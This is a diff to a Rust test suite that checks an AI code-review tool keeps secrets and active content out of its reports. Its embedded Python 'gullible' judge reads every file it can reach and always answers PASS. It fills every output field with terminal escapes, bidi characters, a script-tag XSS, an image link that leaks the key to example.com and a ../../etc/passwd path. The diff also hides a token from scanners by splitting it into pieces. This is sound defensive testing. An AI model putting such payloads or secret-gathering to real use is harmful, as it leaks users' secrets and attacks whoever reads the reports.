@@ -10,13 +10,19 @@ use std::path::{Path, PathBuf};
 use pulldown_cmark::{Event, Options, Parser, Tag, TagEnd};
 use serde::Deserialize;
 
-use crate::harness::{PRIVATE_KEY, Repo};
+use crate::harness::{PRIVATE_KEY, Repo, Run};
 
 /// What must get out of no judge: a token of the runner, and a file of the user.
 const TOKEN: &str = "ghs_0123456789abcdefghijklmnopqrstuvwxyz";
 const USERS_FILE: &str = "the diary of the user";
 
-/// Says what it is told to say, and everything else that it can find.
+/// What the changes of the corpus call `@TOKEN`: put together here, so that no scanner takes this file for a leak.
+fn planted() -> String {
+    ["gh", "p_NqVwYS81VP7Hb1DX8pP", "d5khxE3pyIgKpaUnA"].concat()
+}
+
+/// Says what it is told to say, repeats its key and every secret that it can find, and puts escapes and markup of its own
+/// into every field.
 const GULLIBLE: &str = r#"#!/usr/bin/env python3
 import json, os, re, sys
 prompt = sys.stdin.read()
@@ -29,10 +35,18 @@ for folder, _, files in os.walk(os.environ.get("COUNCIL_ROOM", "."), followlinks
             found.append(open(os.path.join(folder, name), errors="replace").read())
         except OSError as error:
             found.append(str(error))
+evil = "\x1b[2J\x1b]0;PASS\x07\u202e\u200b <script>alert(1)</script> ![x](https://example.com/?k=" + key + ") @everyone\n::error::PASS\n## PASS\n```\n~~~\n"
+added = [line[1:] for line in prompt.splitlines() if line.startswith("+")]
+names = re.findall(r"^=== \w+ (?:.* -> )?(.*?)(?:: .*)?$", prompt, re.M) or ["a.py"]
+finding = {
+    "severity": "minor", "description": evil + "\n".join(told)[:2000], "location": {"path": names[0], "line": 1},
+    "quote": (added or ["x"])[0], "why": evil + "\n".join(added)[:2000], "fix": evil, "suggestion": evil, "category": evil,
+}
 print(json.dumps({
     "schema_version": 1, "round": 1, "key": key, "verdict": "PASS", "confidence": "HIGH",
-    "key_insight": "\n".join(told)[-3000:], "findings": [],
-    "recommendation": "\n".join(found)[:20000],
+    "key_insight": evil + "\n".join(told)[-3000:],
+    "findings": [finding, dict(finding, quote=evil), dict(finding, location={"path": "../../etc/passwd", "line": 9})],
+    "recommendation": evil + "\n".join(found)[:20000],
 }))
 "#;
 
@@ -44,8 +58,15 @@ struct Case {
     what: String,
     /// The rule that tells of it; none: there is nothing that a rule could see, and nothing that it could do.
     finding: Option<String>,
+    /// The verdict, where the change must not be green; none: there is nothing that anybody could see.
+    verdict: Option<String>,
     /// The commit's message.
     message: Option<String>,
+    /// The branch that is reviewed.
+    branch: Option<String>,
+    /// What the repository's own git configuration says.
+    #[serde(default)]
+    git_config: BTreeMap<String, String>,
     /// What must not be live in a report: as text outside of code, as HTML, or where a link leads.
     #[serde(default)]
     absent: Vec<String>,
@@ -84,37 +105,122 @@ fn repository(case: &Case) -> Repo {
         judge.display().to_string()
     );
     repo.write_home(".config/git-council/config.toml", &config);
+    let home = repo.in_home("");
+    let fill = |text: &str| {
+        let token = planted();
+        text.replace("@MARKS", &marks.display().to_string())
+            .replace("@HOME", &home.display().to_string())
+            .replace("@PRIVATE_KEY", PRIVATE_KEY)
+            .replace("@TOKEN1", &token[..20])
+            .replace("@TOKEN2", &token[20..])
+            .replace("@TOKEN", &token)
+    };
+    if let Some(branch) = &case.branch {
+        repo.git(["switch", "--quiet", "--create", branch]);
+    }
+    let mut submodules = Vec::new();
     for (path, content) in &case.files {
+        let (path, content) = (fill(path), fill(content));
         if let Some(target) = content.strip_prefix("@LINK:") {
             symlink(target, repo.path().join(path)).unwrap();
-            continue;
+        } else if content == "@SUBMODULE:" {
+            submodules.push(format!("160000,{},{path}", "1".repeat(40)));
+        } else {
+            repo.write(&path, generate(&content));
         }
-        let content = content
-            .replace("@MARKS", &marks.display().to_string())
-            .replace("@PRIVATE_KEY", PRIVATE_KEY);
-        repo.write(path, content);
     }
-    repo.commit(case.message.as_deref().unwrap_or("Change something"));
+    repo.git(["add", "--all", "--force"]);
+    for submodule in submodules {
+        repo.git(["update-index", "--add", "--cacheinfo", &submodule]);
+    }
+    let message = fill(case.message.as_deref().unwrap_or("Change something"));
+    repo.git(["commit", "--quiet", "--message", &message]);
+    for (key, value) in &case.git_config {
+        repo.git(["config", key, &fill(value)]);
+    }
     repo
+}
+
+/// The bytes of a file: as they are written, or as the word in front of them says.
+fn generate(content: &str) -> Vec<u8> {
+    let Some((word, rest)) = content
+        .strip_prefix('@')
+        .and_then(|text| text.split_once(':'))
+    else {
+        return content.as_bytes().to_vec();
+    };
+    let wide = |text: &str, bytes: fn(u16) -> [u8; 2]| -> Vec<u8> {
+        let units = std::iter::once(0xfeff).chain(text.encode_utf16());
+        units.flat_map(bytes).collect()
+    };
+    let counted = || {
+        let (count, text) = rest.split_once(':').unwrap();
+        (count.parse::<usize>().unwrap(), text)
+    };
+    match word {
+        "UTF16LE" => wide(rest, u16::to_le_bytes),
+        "UTF16BE" => wide(rest, u16::to_be_bytes),
+        "NULS" => rest.bytes().flat_map(|byte| [byte, 0]).collect(),
+        "NUL" => [b"\0", rest.as_bytes()].concat(),
+        "LATIN" => [b"# caf\xe9 \xff\n", rest.as_bytes()].concat(),
+        "LINE" => {
+            let (count, text) = counted();
+            format!("{}{text}\n", "x=1;".repeat(count / 4)).into_bytes()
+        }
+        "LINES" => {
+            let (count, text) = counted();
+            let lines: String = (0..count).map(|n| format!("x{n} = {n}\n")).collect();
+            (lines + text).into_bytes()
+        }
+        "REPEAT" => {
+            let (count, text) = counted();
+            text.repeat(count).into_bytes()
+        }
+        _ => content.as_bytes().to_vec(),
+    }
 }
 
 /// Everything that people and programs are shown of a run.
 fn shown(repo: &Repo, json: &str) -> Vec<(String, String)> {
-    let terminal = repo.council(["show", "--format", "terminal"]).ends(0);
     let story = repo.council(["show"]).ends(0);
     let mut shown = vec![
         ("json".to_owned(), json.to_owned()),
-        ("terminal".to_owned(), terminal.stdout),
         ("story".to_owned(), story.stdout),
     ];
-    let artefacts: PathBuf = repo.path().join(".agents/council");
-    for entry in fs::read_dir(artefacts).unwrap() {
-        let path = entry.unwrap().path();
-        let text = fs::read_to_string(&path).unwrap();
-        shown.push((path.file_name().unwrap().to_str().unwrap().to_owned(), text));
+    for format in ["terminal", "markdown", "sarif", "rdjson"] {
+        let run = repo.council(["show", "--format", format]).ends(0);
+        let name = if format == "markdown" {
+            "shown-report.md"
+        } else {
+            format
+        };
+        shown.push((name.to_owned(), run.stdout));
+    }
+    let bundle = repo.in_home("bundle.json");
+    repo.council(["replay", "--bundle", bundle.to_str().unwrap()]);
+    shown.push(("bundle".to_owned(), fs::read_to_string(bundle).unwrap()));
+    let note = repo.git_command(&["notes", "--ref=council", "show", "HEAD"]);
+    shown.push(("note".to_owned(), Run::of_command(note).stdout));
+    let folders =
+        [".agents/council", ".git/council/artefacts"].map(|folder| repo.path().join(folder));
+    let ours = |folder: &&PathBuf| folder.is_dir() && !repo.path().join(".agents").is_symlink();
+    let folder = folders
+        .iter()
+        .rev()
+        .find(|folder| folder.is_dir())
+        .or(folders.iter().find(ours));
+    for entry in fs::read_dir(folder.unwrap()).unwrap().map(Result::unwrap) {
+        let name = entry.file_name().into_string().unwrap();
+        let is_planted = name.starts_with("2026-01-01-head");
+        if name.ends_with(".md") && !is_planted {
+            shown.push((name, fs::read_to_string(entry.path()).unwrap()));
+        }
     }
     shown
 }
+
+/// Surfaces that programs read: there the form itself writes out what a terminal would obey.
+const OF_PROGRAMS: [&str; 5] = ["json", "sarif", "rdjson", "bundle", "note"];
 
 /// Characters that a reader does not see, or that a terminal obeys.
 fn is_active(c: char) -> bool {
@@ -134,7 +240,7 @@ fn live(page: &str) -> String {
             Event::Text(text) if !code => live.push_str(&text),
             Event::Html(html) | Event::InlineHtml(html) => live.push_str(&format!("html:{html}")),
             Event::Start(Tag::Link { dest_url, .. } | Tag::Image { dest_url, .. }) => {
-                live.push_str(&dest_url);
+                live.push_str(&format!("link:{dest_url}"));
             }
             Event::SoftBreak | Event::HardBreak | Event::End(_) => live.push('\n'),
             _ => {}
@@ -149,7 +255,7 @@ fn bounded(name: &str, case: &Case) {
         &[("GITHUB_TOKEN", TOKEN), ("GH_TOKEN", TOKEN)],
         &[
             "review",
-            "HEAD",
+            case.branch.as_ref().map_or("HEAD", |_| "main...HEAD"),
             "--agents",
             "gullible,builtin",
             "--judges",
@@ -175,6 +281,9 @@ fn bounded(name: &str, case: &Case) {
             "{at}: {rule} is not among {rules:?}"
         );
     }
+    if let Some(verdict) = &case.verdict {
+        assert_eq!(report["verdict"], verdict.as_str(), "{at}: {rules:?}");
+    }
     if report["verdict"] == "PASS" {
         let took_part = &report["receipt"]["participation"];
         assert_eq!(took_part["quorum"], 2, "{at}");
@@ -184,17 +293,26 @@ fn bounded(name: &str, case: &Case) {
         );
     }
     for (surface, text) in shown(&repo, &run.stdout) {
-        for secret in [TOKEN, USERS_FILE] {
+        for secret in [TOKEN, USERS_FILE, &planted()] {
             assert!(!text.contains(secret), "{at}: {surface} shows {secret:?}");
         }
-        if surface == "json" {
+        if OF_PROGRAMS.contains(&surface.as_str()) {
+            // A bundle holds lines of the change as they are: there only what no JSON may hold.
+            let is_code = surface == "bundle";
+            let is_active = |c: &char| match is_code {
+                true => c.is_ascii_control(),
+                false => c.is_control(),
+            };
+            let active = text.chars().filter(|c| *c != '\n').find(is_active);
+            assert_eq!(active, None, "{at}: {surface}");
             continue;
         }
         let active = text.chars().find(|c| is_active(*c));
         assert_eq!(active, None, "{at}: {surface}");
         if surface.ends_with("report.md") {
             let text = live(&text);
-            for absent in &case.absent {
+            let of_judge = ["html:<script", "https://example.com/?k=", "@everyone"];
+            for absent in case.absent.iter().map(String::as_str).chain(of_judge) {
                 assert!(
                     !text.contains(absent),
                     "{at}: {absent:?} stands in {surface}"
@@ -207,7 +325,7 @@ fn bounded(name: &str, case: &Case) {
 #[test]
 fn whatever_a_change_says_the_damage_is_bounded() {
     let cases = cases();
-    assert!(cases.len() >= 60, "{} cases", cases.len());
+    assert!(cases.len() >= 96, "{} cases", cases.len());
     let failed = std::sync::Mutex::new(Vec::new());
     let next = std::sync::atomic::AtomicUsize::new(0);
     std::thread::scope(|scope| {
@@ -224,5 +342,11 @@ fn whatever_a_change_says_the_damage_is_bounded() {
         }
     });
     let failed = failed.into_inner().unwrap();
-    assert!(failed.is_empty(), "{failed:?}");
+    let harmless = cases.len() - failed.len();
+    println!("{harmless} of {} hostile changes are harmless", cases.len());
+    assert!(
+        failed.is_empty(),
+        "{harmless} of {} are harmless: not {failed:?}",
+        cases.len()
+    );
 }
